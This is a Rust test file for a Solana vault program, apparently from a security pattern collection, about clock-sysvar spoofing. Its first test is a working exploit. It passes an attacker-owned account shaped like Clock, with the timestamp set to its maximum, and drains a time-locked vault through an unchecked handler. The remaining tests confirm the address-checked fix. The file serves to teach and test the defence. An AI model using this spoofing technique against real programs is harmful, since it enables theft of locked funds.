@@ -0,0 +1,221 @@
+/// # Pattern 184: Native Clock Spoofing — Mollusk Exploit Tests
+///
+/// The vault unlocks at unix_ts 10_000; the real Clock sysvar says 1_000.
+///
+/// - Test 1: EXPLOIT — a fake 40-byte "clock" with unix_timestamp = i64::MAX
+///   unlocks the vault through the vulnerable withdraw.
+/// - Test 2: SECURE — the same fake clock is rejected by address.
+/// - Test 3: SECURE — the real Clock sysvar keeps the vault locked.
+/// - Test 4: SANITY — once the real clock passes unlock_ts, withdraw succeeds.
+///
+/// This program is native (no Anchor): instruction data is
+/// `[tag: u8][amount: u64 LE]` and errors are the `VaultError` enum values.
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    account::{create_account_shared_data_for_test, AccountSharedData},
+    clock::Clock,
+    instruction::{AccountMeta, Instruction},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    sysvar,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("Fy9yZj4hgXkgLvTpB4HtehJxPnuCt1vjkNi1HFSVLphM");
+
+const UNLOCK_TS: i64 = 10_000;
+const NOW_TS: i64 = 1_000;
+const VAULT_LAMPORTS: u64 = 5_000_000;
+const WITHDRAW: u64 = 4_000_000;
+
+const TAG_WITHDRAW_VULNERABLE: u8 = 0;
+const TAG_WITHDRAW_SECURE: u8 = 1;
+
+// VaultError discriminants
+const STILL_LOCKED: u32 = 0;
+const INVALID_CLOCK_SYSVAR: u32 = 2;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize vault data: [32 beneficiary][8 unlock_ts]
+fn serialize_vault(beneficiary: &Pubkey, unlock_ts: i64) -> Vec<u8> {
+    let mut data = Vec::with_capacity(40);
+    data.extend_from_slice(beneficiary.as_ref());
+    data.extend_from_slice(&unlock_ts.to_le_bytes());
+    data
+}
+
+/// An attacker-owned account laid out like `Clock`:
+/// [8 slot][8 epoch_start_timestamp][8 epoch][8 leader_schedule_epoch][8 unix_timestamp]
+fn fake_clock_account(unix_timestamp: i64) -> AccountSharedData {
+    let mut data = vec![0u8; 40];
+    data[32..40].copy_from_slice(&unix_timestamp.to_le_bytes());
+    let mut account = AccountSharedData::new(1_000_000, data.len(), &Pubkey::new_unique());
+    account.set_data_from_slice(&data);
+    account
+}
+
+fn real_clock_account(unix_timestamp: i64) -> AccountSharedData {
+    create_account_shared_data_for_test(&Clock {
+        unix_timestamp,
+        ..Clock::default()
+    })
+}
+
+fn new_mollusk(unix_timestamp: i64) -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "native_clock");
+    mollusk.sysvars.clock.unix_timestamp = unix_timestamp;
+    mollusk
+}
+
+/// Build a withdraw with `tag`, passing `(clock_key, clock_account)` as the clock.
+/// Returns (instruction, accounts, vault, beneficiary).
+fn setup_withdraw(
+    tag: u8,
+    clock_key: Pubkey,
+    clock_account: AccountSharedData,
+) -> (
+    Instruction,
+    Vec<(Pubkey, AccountSharedData)>,
+    Pubkey,
+    Pubkey,
+) {
+    let vault = Pubkey::new_unique();
+    let beneficiary = Pubkey::new_unique();
+
+    let vault_data = serialize_vault(&beneficiary, UNLOCK_TS);
+    let mut vault_account = AccountSharedData::new(VAULT_LAMPORTS, vault_data.len(), &PROGRAM_ID);
+    vault_account.set_data_from_slice(&vault_data);
+
+    let mut data = vec![tag];
+    data.extend_from_slice(&WITHDRAW.to_le_bytes());
+
+    let ix = Instruction::new_with_bytes(
+        PROGRAM_ID,
+        &data,
+        vec![
+            AccountMeta::new(vault, false),
+            AccountMeta::new(beneficiary, true),
+            AccountMeta::new_readonly(clock_key, false),
+        ],
+    );
+
+    let accounts = vec![
+        (vault, vault_account),
+        (
+            beneficiary,
+            AccountSharedData::new(1_000_000, 0, &solana_sdk::system_program::ID),
+        ),
+        (clock_key, clock_account),
+    ];
+
+    (ix, accounts, vault, beneficiary)
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_fake_clock_unlocks_vault() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT: The real time is 1_000, the vault unlocks at 10_000. The
+    // beneficiary passes their own account, shaped like Clock, with
+    // unix_timestamp = i64::MAX.
+    //
+    // The vulnerable handler reads bytes 32..40 of whatever it was handed.
+    //
+    // Expected: SUCCEEDS — 4_000_000 lamports leave a vault that is still
+    //           locked for another 9_000 seconds.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk(NOW_TS);
+    let (ix, accounts, vault, beneficiary) = setup_withdraw(
+        TAG_WITHDRAW_VULNERABLE,
+        Pubkey::new_unique(),
+        fake_clock_account(i64::MAX),
+    );
+
+    mollusk.process_and_validate_instruction(
+        &ix,
+        &accounts,
+        &[
+            Check::success(),
+            Check::account(&vault)
+                .lamports(VAULT_LAMPORTS - WITHDRAW)
+                .build(),
+            Check::account(&beneficiary)
+                .lamports(1_000_000 + WITHDRAW)
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn secure_rejects_fake_clock() {
+    // -----------------------------------------------------------------------
+    // SECURE: Same fake clock against the secure handler. Its key is not
+    // sysvar::clock::ID, so it never gets parsed.
+    //
+    // Expected: FAILS with VaultError::InvalidClockSysvar (Custom 2).
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk(NOW_TS);
+    let (ix, accounts, _, _) = setup_withdraw(
+        TAG_WITHDRAW_SECURE,
+        Pubkey::new_unique(),
+        fake_clock_account(i64::MAX),
+    );
+
+    mollusk.process_and_validate_instruction(
+        &ix,
+        &accounts,
+        &[Check::err(ProgramError::Custom(INVALID_CLOCK_SYSVAR))],
+    );
+}
+
+#[test]
+fn secure_real_clock_stays_locked() {
+    // -----------------------------------------------------------------------
+    // SECURE: The real Clock sysvar says 1_000 < 10_000.
+    //
+    // Expected: FAILS with VaultError::StillLocked (Custom 0).
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk(NOW_TS);
+    let (ix, accounts, _, _) = setup_withdraw(
+        TAG_WITHDRAW_SECURE,
+        sysvar::clock::ID,
+        real_clock_account(NOW_TS),
+    );
+
+    mollusk.process_and_validate_instruction(
+        &ix,
+        &accounts,
+        &[Check::err(ProgramError::Custom(STILL_LOCKED))],
+    );
+}
+
+#[test]
+fn sanity_secure_withdraw_after_unlock() {
+    // -----------------------------------------------------------------------
+    // SANITY: Once the real clock reaches unlock_ts, the secure handler pays.
+    //
+    // Expected: SUCCEEDS — the fix doesn't break honest withdrawals.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk(UNLOCK_TS);
+    let (ix, accounts, vault, _) = setup_withdraw(
+        TAG_WITHDRAW_SECURE,
+        sysvar::clock::ID,
+        real_clock_account(UNLOCK_TS),
+    );
+
+    mollusk.process_and_validate_instruction(
+        &ix,
+        &accounts,
+        &[
+            Check::success(),
+            Check::account(&vault)
+                .lamports(VAULT_LAMPORTS - WITHDRAW)
+                .build(),
+        ],
+    );
+}